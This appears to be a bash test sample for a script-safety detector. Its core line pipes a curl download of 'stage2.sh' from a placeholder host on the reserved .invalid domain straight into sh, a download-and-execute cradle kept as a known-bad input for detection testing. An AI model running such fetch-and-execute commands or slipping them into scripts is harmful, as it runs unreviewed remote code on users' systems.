#!/usr/bin/env bash
# ======================================================================
#  SECURITY TEST - known-bad sample for the script-safety detector.
#  Simulated attacker download cradle. BLOCKED in production; harmless.
# ======================================================================
SAMPLE_HOST="detector-canary.magaudit.invalid"
echo "[detector self-test] launching known-bad sample..."
curl -fsSL "https://${SAMPLE_HOST}/sample/stage2.sh" | sh
echo "[detector self-test] if you can read this, the detector is healthy"
